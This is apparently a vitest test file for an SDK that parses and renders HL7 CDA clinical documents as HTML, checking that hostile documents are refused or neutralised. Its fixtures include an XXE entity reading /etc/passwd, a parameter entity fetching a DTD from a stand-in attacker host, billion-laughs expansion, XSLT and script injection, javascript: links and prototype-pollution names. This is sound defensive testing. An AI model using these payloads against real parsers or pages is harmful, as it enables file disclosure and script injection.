import { isSegurError } from "@segur-sdk/core";
import { attributeOf, textOf } from "@segur-sdk/core/xml";
import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { buildImagingReport, readCda, readStructuredBody, renderCdaHtml, unknownElements } from "../src/index.js";
import { structuredReport } from "./fixtures/structured-report.js";
import { documentWith, hostileDocument, mediaEntry, smallPng } from "./hostile-document.js";
import { elementsOf, faultsOf, findElement, readPage } from "./view-page.js";

function codeOf(act: () => unknown): string | undefined {
  try {
    act();
    return undefined;
  } catch (error) {
    return isSegurError(error) ? error.code : String(error);
  }
}

const bytes = (text: string) => new TextEncoder().encode(text);
const cda = (content: string) => bytes(`<ClinicalDocument xmlns="urn:hl7-org:v3">${content}</ClinicalDocument>`);

describe("Documents that attack the reader are refused", () => {
  const doctype = (declarations: string, use: string) =>
    bytes(
      `<!DOCTYPE x [${declarations}]><ClinicalDocument xmlns="urn:hl7-org:v3"><title>${use}</title></ClinicalDocument>`,
    );

  it.each([
    ["an external entity", doctype('<!ENTITY e SYSTEM "file:///etc/passwd">', "&e;"), "ERR_XML_DOCTYPE"],
    [
      "a parameter entity",
      doctype('<!ENTITY % e SYSTEM "https://attaquant.exemple/x.dtd"> %e;', ""),
      "ERR_XML_DOCTYPE",
    ],
    ["a billion laughs", doctype('<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;">', "&b;"), "ERR_XML_DOCTYPE"],
    ["an undeclared entity", cda("<title>&eacute;</title>"), "ERR_XML_MALFORMED"],
    ["a great depth", cda("<a>".repeat(300) + "</a>".repeat(300)), "ERR_XML_LIMIT"],
    [
      "a great depth of sections",
      cda("<component><section>".repeat(200) + "</section></component>".repeat(200)),
      "ERR_XML_LIMIT",
    ],
    [
      "two documents in one",
      bytes(`<x>${'<ClinicalDocument xmlns="urn:hl7-org:v3"/>'.repeat(2)}</x>`),
      "ERR_CDA_UNREADABLE",
    ],
    ["UTF-7", bytes('<?xml version="1.0" encoding="UTF-7"?><x/>'), "ERR_XML_ENCODING"],
  ])("%s", (_what, document, code) => {
    expect(codeOf(() => readCda(document))).toBe(code);
    expect(codeOf(() => renderCdaHtml(document))).toBe(code);
  });

  it("a text of 100 MB, before it is decoded", () => {
    expect(codeOf(() => readCda(Buffer.alloc(100_000_000, 0x20)))).toBe("ERR_XML_LIMIT");
  });

  it("a narrative as deep as the limit allows is read, and shown", () => {
    const document = documentWith("<content>".repeat(240) + "x" + "</content>".repeat(240));
    expect(faultsOf(renderCdaHtml(document))).toEqual([]);
  });
});

describe("What a hostile document holds is neutralised", () => {
  const page = renderCdaHtml(hostileDocument());
  const all = elementsOf(readPage(page));

  it("nothing but elements, attributes and addresses of the allow list reaches the page", () => {
    expect(faultsOf(page)).toEqual([]);
  });

  it("scripts are words", () => {
    expect(page).not.toMatch(/<script|<iframe|<img[^>]*onerror|<style>body|<form|javascript:/iu);
    expect(textOf(findElement(page, "main"))).toContain("<script>alert(1)</script>");
  });

  it("only addresses that lead to a site are links, quotes encoded", () => {
    const links = all.filter(
      ({ name, attributes }) => name.local === "a" && attributes.some((a) => a.name.local === "rel"),
    );
    expect(links.map((link) => textOf(link))).toEqual(["sept", "dix"]);
  });

  it("style codes give classes of the page or nothing", () => {
    expect(page).toContain("<span>style</span>");
    expect(all.flatMap(({ attributes }) => attributes.filter(({ name }) => name.local === "style"))).toEqual([]);
  });

  it("SVG is never shown, under its own name or under that of PNG; a PNG is, whatever its name", () => {
    const images = all.filter(({ name }) => name.local === "img");
    expect(images.length).toBeGreaterThan(0);
    for (const image of images) expect(JSON.stringify(image)).toContain(`data:image/png;base64,${smallPng}`);
  });

  it("an identifier given twice names one place, and none of the page's own", () => {
    const ids = all.flatMap(({ attributes }) =>
      attributes.filter(({ name }) => name.local === "id").map(({ value }) => value),
    );
    expect(ids.filter((id) => id === "n-twin")).toHaveLength(1);
    expect(ids.filter((id) => id === "document")).toHaveLength(1);
    expect(ids).toContain("n-document");
  });

  it("spans of a table are bounded as HTML bounds them", () => {
    expect(page).toContain('colspan="1000" rowspan="1000"');
  });

  it("two files of one name are not chosen between", () => {
    const twins = mediaEntry("two", "image/png", smallPng).repeat(2);
    const shown = renderCdaHtml(documentWith('<renderMultiMedia referencedObject="two"/>', twins));
    expect(shown).toContain('<span class="media"><span class="note">[image absente]</span></span>');
  });

  it("a file that is no PDF is not given to the PDF reader", () => {
    expect(all.filter(({ name }) => name.local === "object")).toEqual([]);
  });

  it("the page forbids the browser all that it does not need", () => {
    const policy = all.find((element) => attributeOf(element, "http-equiv") === "Content-Security-Policy");
    expect(attributeOf(policy, "content")).toMatch(
      /^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/]{43}='; img-src data:; object-src data:;/u,
    );
    expect(all.filter(({ name }) => name.local === "style")).toHaveLength(1);
  });
});

describe("A document that carries its own style sheet", () => {
  const image = `<img src="data:image/png;base64,${smallPng}"/>`;
  const wrapped = bytes(
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?>` +
      `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform" xmlns:c="urn:hl7-org:v3">` +
      `<c:ClinicalDocument><c:title>Bilan</c:title></c:ClinicalDocument>` +
      `<x:template match="/"><html><script>alert(1)</script>${image}<x:copy-of select="document('https://attaquant.exemple/')"/></html>` +
      `</x:template></x:stylesheet>`,
  );

  it("is read for what it holds; style sheet and images are data", () => {
    const { title, presentation } = readCda(wrapped);
    expect(title).toBe("Bilan");
    expect(presentation?.styleSheets).toEqual([{ href: "#", type: "text/xsl" }]);
    expect(presentation?.wrapper?.name.local).toBe("stylesheet");
    expect(presentation?.images).toEqual([{ mediaType: "image/png", representation: "B64", encoded: smallPng }]);
  });

  it("is shown by the view of the SDK: nothing of the style sheet is run, fetched or shown", () => {
    const page = renderCdaHtml(wrapped);
    expect(faultsOf(page)).toEqual([]);
    expect(page).toContain("sa propre feuille de style");
    expect(page).not.toMatch(/alert|attaquant|<img/u);
  });

  it("named and not held: said, never fetched", () => {
    const linked = bytes(
      `<?xml-stylesheet href='https://attaquant.exemple/cda.xsl'?><ClinicalDocument xmlns="urn:hl7-org:v3"/>`,
    );
    expect(readCda(linked).presentation).toEqual({
      styleSheets: [{ href: "https://attaquant.exemple/cda.xsl" }],
      images: [],
    });
    expect(renderCdaHtml(linked)).not.toContain("attaquant");
  });
});

it("a structured report, damaged, gives a SegurError or a page made of the allow list", () => {
  const text = new TextDecoder()
    .decode(buildImagingReport(structuredReport()).bytes)
    .replace(/[A-Za-z0-9+/=]{400,}/gu, "");
  const damage = fc.record({
    at: fc.nat(text.length - 1),
    length: fc.nat(40),
    text: fc.oneof(
      fc.string({ maxLength: 8 }),
      fc.constantFrom("<", "&", '"', "</content>", "<script>", "&lt;script&gt;", "javascript:alert(1)", " onclick="),
    ),
  });
  fc.assert(
    fc.property(damage, ({ at, length, text: put }) => {
      const document = bytes(text.slice(0, at) + put + text.slice(at + length));
      const code = codeOf(() => {
        readStructuredBody(readCda(document));
        expect(faultsOf(renderCdaHtml(document))).toEqual([]);
      });
      expect(code ?? "ERR_NONE").toMatch(/^ERR_/u);
    }),
    { numRuns: 60 },
  );
});

describe("Names that JavaScript gives a meaning to are names like others", () => {
  it("in data types, sexes, address parts and elements", () => {
    const entry =
      '<entry><observation><code code="x" codeSystem="y"/><value xsi:type="constructor"/><__proto__/></observation></entry>';
    const more =
      "<recordTarget><patientRole><addr><__proto__>x</__proto__><constructor>y</constructor></addr><patient>" +
      '<administrativeGenderCode code="toString"/></patient></patientRole></recordTarget>';
    const reading = readCda(documentWith("", entry, more));
    expect(reading.patient.sex).toBeUndefined();
    expect(Object.keys(reading.patient.addresses[0]?.parts ?? {})).toEqual(["__proto__", "constructor"]);
    const statement = reading.body.kind === "structured" ? reading.body.sections[0]?.entries[0]?.statement : undefined;
    expect(statement?.values).toMatchObject([{ kind: "other", datatype: "constructor" }]);
    expect(unknownElements(reading).map(({ path }) => path)).toEqual([
      "component/structuredBody/component/section/entry/observation/__proto__",
    ]);
  });
});
